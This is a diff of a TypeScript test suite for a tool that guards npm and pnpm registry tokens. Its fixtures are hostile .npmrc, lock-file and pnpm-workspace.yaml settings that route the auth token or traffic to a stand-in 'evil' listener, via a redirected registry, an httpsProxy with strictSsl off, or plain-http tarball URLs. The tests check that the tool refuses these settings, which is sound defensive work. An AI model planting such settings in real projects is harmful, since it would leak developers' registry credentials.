@@ -5,13 +5,12 @@
 import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
 import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
-import { ended, type Finished, type Laptop, registryName, startLaptop } from "../laptop.ts";
+import { ended, type Finished, type Laptop } from "../laptop.ts";
 import { requires } from "../requires.ts";
-import { names } from "../sandbox/main.ts";
-import { seedPackage } from "../sandbox/packages.ts";
 import { bare, endpoint, host, hostileFiles, lock, manifest, otherFiles, pnpmLock, variable } from "./hostile-files.ts";
 import { hostileSettings, makeRepositories } from "./hostile-git.ts";
 import { type HostileListener, holdsToken, startHostileListener } from "./hostile-listener.ts";
+import { pathWith, programsOf, setUpNpm, startNpmLaptop } from "./npm-laptop.ts";
 import { npmrcSpellings } from "./npmrc-spellings.ts";
 import { npmUserProject } from "./projects.ts";
 
@@ -25,10 +24,7 @@ let network: HostileListener;
 let count = 0;
 
 beforeAll(async () => {
-  laptop = await startLaptop();
-  await laptop.getReady("--registry-name", registryName);
-  const files = { "index.js": 'module.exports = "hello from my-lib";\n' };
-  await seedPackage(laptop.sandbox.registries, "npm", { name: "my-lib", version: "1.0.0", files });
+  laptop = await startNpmLaptop();
   for (const name of ["evil", "network"]) mkdirSync(join(laptop.folder, name));
   evil = await startHostileListener({ folder: join(laptop.folder, "evil"), host });
   network = await startHostileListener({
@@ -79,11 +75,8 @@ function run(tool: string, command: string[], files: Files, env: Record<string, 
 }
 
 function withTool(tool: string): Record<string, string> {
-  const folders = [laptop.shims, join(tools, tool, "node_modules/.bin"), newNode, laptop.env["PATH"]];
-  return { PATH: folders.join(":") };
+  return { PATH: pathWith(laptop, tool) };
 }
-
-const newNode = join(tools, `npm-12/node_modules/node-linux-${process.arch}/bin`);
 
 const spelling = () => ({ ca: evil.ca, proxy: evil.url, endpoint });
 
@@ -98,17 +91,17 @@ function expectWords({ stderr }: Finished, words: RegExp | null): void {
   else expect(stderr).toMatch(words);
 }
 
-describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
-  describe.skipIf(!requires(join(tools, tool, "node_modules/.bin/npm")))("is installed", () => {
+describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("in a project %s", (tool) => {
+  describe.skipIf(!requires(join(programsOf(tool), "npm")))("where it is installed,", () => {
     test("installs from the registry in an honest project", () => installs(tool, ["npm", "install"]), 120_000);
 
-    test("does not look at what only pnpm reads", async () => {
+    test("ignores what only pnpm reads", async () => {
       const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
       await installs(tool, ["npm", "install"], { "pnpm-lock.yaml": pnpmLock(x), "pnpm-workspace.yaml": `a: ${x}\n` });
     }, 120_000);
 
     test.each(hostileFiles)(
-      "gives nobody the token: %s",
+      "gives nobody the token with %s",
       async (_, files, words) => {
         expectWords(await run(tool, ["npm", "install", "--ignore-scripts"], files(evil)), words);
       },
@@ -116,7 +109,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
     );
 
     test.each(hostileSettings)(
-      "gives nobody the token by a dependency in git: %s",
+      "gives nobody the token with a dependency in git and %s",
       async (_, npmrc, settings, words) => {
         const folder = join(laptop.home, `${tool}-git-${count}`);
         const g = makeRepositories(folder, { url: evil.url, settings });
@@ -158,7 +151,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
       "-w b publish --dry-run",
       "publish --workspaces --dry-run",
     ])(
-      "works in a workspace: npm %s",
+      "works in a workspace by npm %s",
       async (command) => {
         const files = {
           "package.json": manifest({ workspaces: ["packages/*"] }),
@@ -171,7 +164,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
       120_000,
     );
 
-    test("gives nobody the token: plain http in a lock file", async () => {
+    test("gives nobody the token with plain http in a lock file", async () => {
       const files = { "package-lock.json": lock(`http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`) };
       const finished = await run(tool, ["npm", "ci", "--ignore-scripts"], files);
       expectWords(finished, /package-lock\.json: packages\.node_modules\/my-lib\.resolved .*plain http/);
@@ -179,7 +172,7 @@ describe.each(["npm-9", "npm-10", "npm-11", "npm-12"])("%s", (tool) => {
   });
 });
 
-describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other ways", () => {
+describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("in a hostile project", () => {
   const view = ["npm", "view", "@x/nothing"];
 
   test.each([
@@ -206,7 +199,7 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
   );
 
   test.each(otherFiles)(
-    "%s",
+    "nobody gets the token with %s",
     async (_, files, command, words) => {
       // What an earlier test has fetched would do without a token.
       const env = { npm_config_cache: join(laptop.home, `cache-${count}`) };
@@ -218,7 +211,7 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
   );
 
   test.each(npmrcSpellings)(
-    "an .npmrc with %s gives nobody the token",
+    "nobody gets the token with an .npmrc with %s",
     async (_, npmrc) => {
       const { stdout, stderr } = await run("npm-11", ["npm", "install", "--ignore-scripts"], {
         ".npmrc": npmrc(spelling()),
@@ -228,28 +221,25 @@ describe.skipIf(!requires(join(tools, "npm-11/node_modules/.bin/npm")))("other w
     120_000,
   );
 
-  test("vouch exec refuses in words", async () => {
+  test("vouch exec refuses in clear words", async () => {
     const finished = await run("npm-11", ["vouch", "exec", "--", "npx", "my-lib"], { ".npmrc": "ca=x\n" });
     expectWords(finished, /npm gets no token here: .*\.npmrc: ca /);
     expect(finished.exitCode).toBe(5);
   });
 
-  test("an honest publish from an honest project", async () => {
+  test("an honest publish works", async () => {
     const files = { "package.json": manifest({ name: "honest", publishConfig: { access: "public", tag: "latest" } }) };
     await ended(run("npm-11", ["npm", "publish"], files));
   }, 120_000);
 });
 
-describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
-  describe.skipIf(!requires(join(tools, tool, "node_modules/.bin/pnpm")))("is installed", () => {
-    beforeAll(async () => {
-      const repository = ["--domain", names.domain, "--repository", names.repository, "--tool", "npm"];
-      await ended(laptop.run(["vouch", "setup", "codeartifact", ...repository], { env: withTool(tool) }));
-    }, 120_000);
+describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("in a project %s", (tool) => {
+  describe.skipIf(!requires(join(programsOf(tool), "pnpm")))("where it is installed,", () => {
+    beforeAll(() => setUpNpm(laptop, withTool(tool)), 120_000);
 
     test("installs from the registry in an honest project", () => installs(tool, ["pnpm", "install"]), 120_000);
 
-    test("does not look at what only npm and yarn read, but at its own lock file", async () => {
+    test("ignores what only npm and yarn read, and reads its own lock file", async () => {
       const x = `http://${endpoint}my-lib/-/my-lib-1.0.0.tgz`;
       const files = { "package-lock.json": lock(x), "yarn.lock": `my-lib@^1.0.0:\n  resolved "${x}"\n` };
       await installs(tool, ["pnpm", "install"], files);
@@ -260,7 +250,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
     }, 120_000);
 
     test.each(hostileFiles)(
-      "gives nobody the token: %s",
+      "gives nobody the token with %s",
       async (_, files, words) => {
         const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files(evil));
         if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
@@ -269,7 +259,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
     );
 
     test.each(hostileSettings)(
-      "gives nobody the token by a dependency in git: %s",
+      "gives nobody the token with a dependency in git and %s",
       async (_, npmrc, settings, words) => {
         const g = makeRepositories(join(laptop.home, `${tool}-git-${count}`), { url: evil.url, settings });
         const files = { ".npmrc": npmrc, "package.json": manifest({ dependencies: { g } }) };
@@ -282,7 +272,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
 
     if (tool === "pnpm-9" || tool === "pnpm-12") {
       test.each(npmrcSpellings)(
-        "an .npmrc with %s gives nobody the token",
+        "gives nobody the token with an .npmrc with %s",
         async (_, npmrc) => {
           const { stdout, stderr } = await run(tool, ["pnpm", "install", "--ignore-scripts"], {
             ".npmrc": npmrc(spelling()),
@@ -297,7 +287,7 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
       ["pnpm dlx", ["pnpm", "dlx", "@x/nothing"]],
       ["pnpm view", ["pnpm", "view", "@x/nothing"]],
     ])(
-      "%s in a hostile project gives nobody the token",
+      "gives nobody the token by %s",
       async (_, command) => {
         const own = `@x:registry=${evil.url}/npm/\n`;
         const known = [variable, `p${variable}`, "CODEARTIFACT_AUTH_TOKEN"];
@@ -310,13 +300,13 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
       120_000,
     );
 
-    test("gives nobody the token: pnpm's own variable", async () => {
+    test("gives nobody the token by pnpm's own variable", async () => {
       const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
       const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
       expect(finished.stderr).toContain("names the variable of a token");
     }, 120_000);
 
-    test("gives nobody the token: a proxy in pnpm-workspace.yaml", async () => {
+    test("gives nobody the token by a proxy in pnpm-workspace.yaml", async () => {
       const files = { "pnpm-workspace.yaml": `packages: []\nhttpsProxy: ${evil.url}\nstrictSsl: false\n` };
       const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
       expect(finished.stderr).toMatch(/pnpm-workspace\.yaml: (httpsProxy|strictSsl) /);
